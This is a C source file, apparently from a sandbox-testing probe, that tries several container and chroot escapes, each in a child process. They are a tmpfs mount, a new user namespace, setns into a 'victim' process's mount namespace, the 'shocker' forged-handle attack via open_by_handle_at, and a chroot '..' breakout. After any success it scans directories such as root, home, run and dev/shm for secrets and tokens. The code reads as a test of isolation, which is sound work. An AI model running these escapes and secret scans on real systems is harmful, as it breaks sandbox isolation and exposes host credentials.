/* mount-escape: try to leave the view, then read what the platform keeps.
 * Each technique runs in a child, so that a success changes nothing of ours;
 * the child sends back the tokens its scan found. */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "probe.h"
#include "report.h"
#include "walk.h"

typedef int (*escape_fn)(struct probe *p, char *root, size_t len);

/* After an escape, look where the platform's secrets are kept. */
static void scan_view(struct probe *p, const char *root)
{
  static const char *const places[] = { "platform", "tmp", "root", "home", "dev/shm", "run" };
  char path[4096];

  for (size_t i = 0; i < sizeof places / sizeof places[0]; i++)
    {
      int n = snprintf(path, sizeof path, "%s/%s", strcmp(root, "/") == 0 ? "" : root, places[i]);
      if (n < 0 || (size_t)n >= sizeof path)
        probe_attempt(p, "escaped-read", places[i], false, ENAMETOOLONG, "under %.200s", root);
      else
        probe_walk(p, "escaped-read", path, 4, 20000);
    }
}

static int mount_tmpfs(struct probe *p, char *root, size_t len)
{
  char dir[] = "/tmp/splitbox-probe-XXXXXX";
  int ok;

  (void)root;
  (void)len;
  if (mkdtemp(dir) == NULL)
    {
      probe_attempt(p, "mkdtemp", dir, false, errno, NULL);
      return -1;
    }
  ok = mount("tmpfs", dir, "tmpfs", 0, NULL) == 0;
  probe_attempt(p, "mount", dir, ok, errno, NULL);
  if (ok)
    probe_attempt(p, "umount", dir, umount2(dir, MNT_DETACH) == 0, errno, NULL);
  rmdir(dir);
  return -1; /* a mount of our own reveals nothing by itself */
}

static int new_userns(struct probe *p, char *root, size_t len)
{
  int ok = unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0;

  probe_attempt(p, "unshare(CLONE_NEWUSER|CLONE_NEWNS)", "self", ok, errno, NULL);
  if (!ok)
    return -1;
  ok = mount("proc", "/proc", "proc", 0, NULL) == 0;
  probe_attempt(p, "mount proc in a new user namespace", "/proc", ok, errno, NULL);
  snprintf(root, len, "/");
  return 0;
}

static int join_victim(struct probe *p, char *root, size_t len)
{
  for (int i = 0; i < p->n_targets; i++)
    {
      char path[64];
      int user, mnt;
      snprintf(path, sizeof path, "/proc/%d/ns/user", (int)p->targets[i]);
      user = open(path, O_RDONLY | O_CLOEXEC);
      snprintf(path, sizeof path, "/proc/%d/ns/mnt", (int)p->targets[i]);
      mnt = open(path, O_RDONLY | O_CLOEXEC);
      probe_attempt(p, "open ns", path, mnt >= 0, errno, NULL);
      if (user >= 0)
        setns(user, CLONE_NEWUSER); /* fails harmlessly when it is our own */
      if (mnt >= 0 && setns(mnt, CLONE_NEWNS) == 0)
        {
          probe_attempt(p, "setns(mnt)", path, true, 0, NULL);
          snprintf(root, len, "/");
          return 0;
        }
      probe_attempt(p, "setns(mnt)", path, false, errno, NULL);
    }
  if (p->n_targets == 0)
    probe_attempt(p, "setns(mnt)", "victim", false, ESRCH, "no process carries the marker");
  return -1;
}

/* The "shocker" technique: a forged handle for inode 2, the root of a
 * filesystem (ext*, xfs), opened through any fd on that filesystem. Tried on
 * every mount of our view: / may be a tmpfs (ESTALE) while a bind mount of
 * the host's disk sits below it. */
static bool handle_on(struct probe *p, const char *point)
{
  struct
  {
    struct file_handle h;
    unsigned char bytes[128];
  } fh;
  int mount_id, mount_fd, fd;
  unsigned int ino = 2, gen = 0;

  fh.h.handle_bytes = sizeof fh.bytes;
  if (name_to_handle_at(AT_FDCWD, point, &fh.h, &mount_id, 0) != 0)
    {
      probe_attempt(p, "name_to_handle_at", point, false, errno, NULL);
      return false;
    }
  fh.h.handle_bytes = 8;
  fh.h.handle_type = 1; /* FILEID_INO32_GEN */
  memcpy(fh.h.f_handle, &ino, 4);
  memcpy(fh.h.f_handle + 4, &gen, 4);
  mount_fd = open(point, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  fd = mount_fd >= 0 ? open_by_handle_at(mount_fd, &fh.h, O_RDONLY | O_DIRECTORY) : -1;
  probe_attempt(p, "open_by_handle_at", point, fd >= 0, errno, "inode 2 of the filesystem mounted there");
  if (mount_fd >= 0)
    close(mount_fd);
  if (fd < 0)
    return false;
  if (fchdir(fd) != 0 || chroot(".") != 0)
    {
      probe_attempt(p, "chroot to the handle", point, false, errno, NULL);
      close(fd);
      return false;
    }
  close(fd);
  return true;
}

static int by_handle(struct probe *p, char *root, size_t len)
{
  size_t n = 0;
  char *info = probe_read_file("/proc/self/mountinfo", 1 << 20, &n);
  int tried = 0;

  if (info == NULL)
    probe_attempt(p, "read", "/proc/self/mountinfo", false, errno, "trying / alone");
  for (char *line = info, *next; line != NULL && *line != '\0' && tried < 256; line = next)
    {
      char point[4096];
      next = strchr(line, '\n');
      if (next != NULL)
        *next++ = '\0';
      /* Paths with escaped characters (\040) are left out: a forged handle needs no unusual name. */
      if (sscanf(line, "%*s %*s %*s %*s %4095s", point) != 1 || strchr(point, '\\') != NULL)
        continue;
      if (strncmp(point, "/proc", 5) == 0 || strncmp(point, "/sys", 4) == 0)
        continue;
      tried++;
      if (handle_on(p, point))
        {
          free(info);
          snprintf(root, len, "/");
          return 0;
        }
    }
  free(info);
  if (tried == 0 && handle_on(p, "/"))
    {
      snprintf(root, len, "/");
      return 0;
    }
  return -1;
}

static int chroot_breakout(struct probe *p, char *root, size_t len)
{
  char dir[] = "/tmp/splitbox-probe-XXXXXX";
  int ok, tmp = open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

  if (mkdtemp(dir) == NULL)
    {
      probe_attempt(p, "mkdtemp", dir, false, errno, NULL);
      return -1;
    }
  ok = chroot(dir) == 0;
  probe_attempt(p, "chroot", dir, ok, errno, NULL);
  /* By fd: after the chroot, the path would name something else. */
  unlinkat(tmp, dir + 5, AT_REMOVEDIR);
  close(tmp);
  if (!ok)
    return -1;
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0)
      break;
  ok = chroot(".") == 0;
  probe_attempt(p, "chroot(\"..\"*64)", "/", ok, errno, NULL);
  snprintf(root, len, "/");
  return ok ? 0 : -1;
}

/* The child's attempts and tokens come back as one record each, untruncated. */
static void in_child(struct probe *p, const char *name, escape_fn fn)
{
  int fds[2];
  pid_t pid;

  if (pipe(fds) != 0)
    {
      probe_attempt(p, name, "pipe", false, errno, NULL);
      return;
    }
  pid = fork();
  if (pid == 0)
    {
      char root[4096];
      FILE *f;
      close(fds[0]);
      report_reset();
      if (fn(p, root, sizeof root) == 0)
        scan_view(p, root);
      f = fdopen(fds[1], "w");
      report_dump_records(f);
      fclose(f);
      _exit(0);
    }
  close(fds[1]);
  if (pid < 0)
    probe_attempt(p, name, "fork", false, errno, NULL);
  else
    {
      FILE *f = fdopen(fds[0], "r");
      report_load_records(p, f, name);
      fclose(f);
      waitpid(pid, NULL, 0);
      return;
    }
  close(fds[0]);
}

void probe_mount_escape(struct probe *p)
{
  in_child(p, "mount", mount_tmpfs);
  in_child(p, "userns", new_userns);
  in_child(p, "setns", join_victim);
  in_child(p, "open_by_handle_at", by_handle);
  in_child(p, "chroot", chroot_breakout);
}
